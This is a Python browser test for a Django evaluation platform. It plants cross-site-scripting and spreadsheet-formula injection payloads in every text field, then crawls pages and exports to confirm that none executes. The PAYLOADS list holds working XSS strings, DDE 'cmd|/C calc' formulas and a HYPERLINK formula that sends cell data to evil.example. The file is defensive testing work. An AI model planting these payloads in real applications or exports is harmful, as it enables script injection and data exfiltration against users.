"""Hostile names in a real Chromium (issue 22): every text field of the demo bureau starts with a payload
(``<img src=x onerror=…>``, ``"><script>…``, ``=HYPERLINK(…)``, ``+cmd``, ``@SUM``, ``-2+3+cmd``); the
reviewer, the administrator, a unit's editor and leader, and the public walk every page they can reach
and download every export. No script may run (a window flag the payloads set, dialogs, markup parsed
from a payload), the charts' tooltips must show the names as text, and no spreadsheet cell of an export
may hold a live formula built from a payload.
"""

from __future__ import annotations

import csv
import io
import re
from collections import deque
from urllib.parse import urljoin, urlparse

import pytest

PAYLOADS = [
    '<img src=x onerror="window.__xss=(window.__xss||0)+1">',
    '"><script>window.__xss=(window.__xss||0)+1</script>',
    "'><svg onload=window.__xss=1>",
    '=HYPERLINK("http://evil.example/?"&A1,"点此")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]
TEXT_KEYS = {"unit", "title", "name", "content", "text", "deviation", "note", "project", "department",
             "implementer", "explanation", "reason", "status", "goals", "region"}
SKIP_FIELDS = {"username", "password", "code", "sha256", "hash", "hint", "content_type", "path", "status", "kind",
               "formats", "task_id", "role", "purpose", "state", "grade", "email", "stage", "decision", "outcome",
               "queue_name", "backend_name", "priority", "worker_id", "run_after", "key", "level", "ruleset",
               "action", "field", "last_modified"}
UNSAFE_DOM = """() => Array.from(document.querySelectorAll(
  'img[src="x"], svg[onload], [onerror], [onload], script:not([src]):not([type="application/json"])'
)).map(e => e.outerHTML.slice(0, 120))"""


class Planter:
    def __init__(self) -> None:
        self.n = 0

    def __call__(self, text: str, limit: int | None = None) -> str:
        payload = PAYLOADS[self.n % len(PAYLOADS)]
        self.n += 1
        value = payload + text
        return value[:limit] if limit else value

    def document(self, node, key: str = ""):  # noqa: ANN001, ANN201
        if isinstance(node, dict):
            return {k: self.document(v, k) for k, v in node.items()}
        if isinstance(node, list):
            return [self.document(v, key) for v in node]
        if isinstance(node, str) and key in TEXT_KEYS and node:
            return self(node)
        return node


def plant() -> int:
    """Every free-text column of the platform's tables and every text of every document gets a payload."""
    from django.apps import apps
    from django.core.management import call_command
    from django.db import models

    planter = Planter()
    for model in apps.get_models():
        if not model.__module__.startswith("jixiao.web") and model._meta.label_lower != "auth.user":
            continue
        fields = [f for f in model._meta.concrete_fields if isinstance(f, (models.CharField, models.TextField))
                  and not f.choices and f.name not in SKIP_FIELDS and not f.primary_key]
        json_fields = [f for f in model._meta.concrete_fields if isinstance(f, models.JSONField)
                       and f.name in ("document", "data_json")]
        if not fields and not json_fields:
            continue
        for row in model._default_manager.all():
            for f in fields:
                value = getattr(row, f.attname)
                if value:
                    setattr(row, f.attname, planter(value, f.max_length))
            for f in json_fields:
                value = getattr(row, f.attname)
                if value:
                    setattr(row, f.attname, planter.document(value))
            row.save()
    call_command("reanalyse", verbosity=0)
    return planter.n


def prepare_world() -> None:
    from django.contrib.auth import get_user_model

    from jixiao.web.demo import load_demo
    from jixiao.web.evaluations import services
    from jixiao.web.evaluations.models import Attachment, Evaluation
    from jixiao.web.jobs.models import Item, Job
    from jixiao.web.publication import services as publication

    load_demo()
    reviewer = get_user_model().objects.get(username="reviewer-jinshui")
    editor = get_user_model().objects.get(username="editor-004")
    record = Evaluation.objects.filter(unit__code="004").first()
    services.attach(record, Attachment.EVIDENCE, "", PAYLOADS[0] + "证明.pdf", b"%PDF-1.4 evidence",
                    "application/pdf", editor)
    job = Job.objects.create(kind="import", bureau=record.bureau, unit=record.unit, year=2021, created_by=editor,
                             status="done", total=2, done=2, failed=1)
    Item.objects.create(job=job, seq=1, name=PAYLOADS[3] + ".docx", state="failed", message=PAYLOADS[4] + "无法读取")
    Item.objects.create(job=job, seq=2, name=PAYLOADS[5] + ".xlsx", state="done", message="已导入", evaluation=record)
    planted = plant()
    assert planted > 500
    approved = Evaluation.objects.filter(status="approved", bureau=record.bureau).first()
    publication.publish(approved, reviewer, pdf=False)


DOWNLOAD = re.compile(r"(\.xlsx|\.csv|\.json|\.pdf|/download/|/export/|/attachments/|report\.csv|/file/|"
                      r"/versions/\d+/$)")
SKIP = re.compile(r"(logout|/api/v1/docs|/cancel/|/password/|/download/pdf/)")


def _links(page, base: str) -> list[str]:  # noqa: ANN001
    hrefs = page.eval_on_selector_all("a[href]", "els => els.map(e => e.getAttribute('href'))")
    out = []
    for href in hrefs:
        url = urljoin(page.url, href).split("#")[0]
        if urlparse(url).netloc == urlparse(base).netloc:
            out.append(url)
    return out


def _check_xlsx(data: bytes, url: str) -> int:
    from openpyxl import load_workbook

    checked = 0
    book = load_workbook(io.BytesIO(data))
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                value = cell.value
                if isinstance(value, str) and any(word in value for word in ("HYPERLINK", "cmd|", "SUM(1+1)")):
                    checked += 1
                    assert cell.data_type == "s", (url, ws.title, cell.coordinate, value)
    return checked


def _check_csv(data: bytes, url: str) -> int:
    checked = 0
    for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))):
        for value in row:
            if any(word in value for word in ("HYPERLINK", "cmd|", "SUM(1+1)")):
                checked += 1
                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (url, value)
    return checked


def _show_every_tooltip(page) -> int:  # noqa: ANN001
    """Open the tooltip of the first items of every chart (the names go into them as HTML)."""
    return page.evaluate("""() => {
      let shown = 0;
      document.querySelectorAll('[data-chart]').forEach(el => {
        const chart = window.echarts && echarts.getInstanceByDom(el);
        if (!chart) return;
        const series = chart.getOption().series || [];
        series.forEach((s, si) => {
          for (let i = 0; i < Math.min(5, (s.data || []).length); i++) {
            chart.dispatchAction({type: 'showTip', seriesIndex: si, dataIndex: i});
            shown++;
          }
        });
      });
      return shown;
    }""")


@pytest.mark.django_db(transaction=True)
def test_hostile_names_never_run_in_any_page_or_export(live_server, browser):  # noqa: ANN001
    from jixiao.web.demo import DEMO_PASSWORD

    prepare_world()
    base = live_server.url
    visited_total, exports, cells, tooltips = 0, 0, 0, 0
    for who in ("reviewer-jinshui", "admin-jinshui", "editor-004", "leader-000", None):
        context = browser.new_context(viewport={"width": 1280, "height": 900}, locale="zh-CN", accept_downloads=True)
        page = context.new_page()
        dialogs: list[str] = []
        errors: list[str] = []
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        page.on("pageerror", lambda e: errors.append(str(e)))
        if who:
            page.goto(base + "/accounts/login/")
            page.fill("input[name=username]", who)
            page.fill("input[name=password]", DEMO_PASSWORD)
            page.click("button[type=submit]")
            page.wait_for_load_state()
            start = [base + "/", base + "/dashboard/", base + "/review/", base + "/jobs/", base + "/public/"]
        else:
            start = [base + "/public/"]
        queue, seen, downloads = deque(start), set(), set()
        while queue and len(seen) < 70:
            url = queue.popleft()
            if url in seen or SKIP.search(url):
                continue
            if DOWNLOAD.search(urlparse(url).path):
                downloads.add(url)
                continue
            seen.add(url)
            try:
                response = page.goto(url)
            except Exception as exc:  # noqa: BLE001 - a link that turned out to be a file
                if "Download is starting" not in str(exc):
                    raise
                downloads.add(url)
                continue
            if response is None or response.status >= 400 or "html" not in response.headers.get("content-type", ""):
                continue
            page.wait_for_load_state("load")
            if page.locator("[data-chart]").count():
                page.wait_for_selector("body[data-charts-ready='1']", timeout=15000)
                tooltips += _show_every_tooltip(page)
                page.wait_for_timeout(100)
            assert page.evaluate("window.__xss") is None, f"{who}: a payload ran on {url}"
            assert page.evaluate(UNSAFE_DOM) == [], f"{who}: payload markup parsed on {url}"
            queue.extend(u for u in _links(page, base) if u not in seen)
        for url in sorted(downloads):
            response = context.request.get(url)
            if response.status != 200:
                continue
            body = response.body()
            kind = response.headers.get("content-type", "")
            if "spreadsheetml" in kind:
                cells += _check_xlsx(body, url)
                exports += 1
            elif "text/csv" in kind:
                cells += _check_csv(body, url)
                exports += 1
        assert not dialogs, (who, dialogs)
        assert not [e for e in errors if "__xss" in e], (who, errors)
        visited_total += len(seen)
        context.close()
    print(f"hostile walk: {visited_total} pages, {exports} exports, {cells} payload cells, {tooltips} tooltips")
    assert visited_total > 60 and exports >= 10 and tooltips > 20
    assert cells > 20  # payload text reached the files, as text
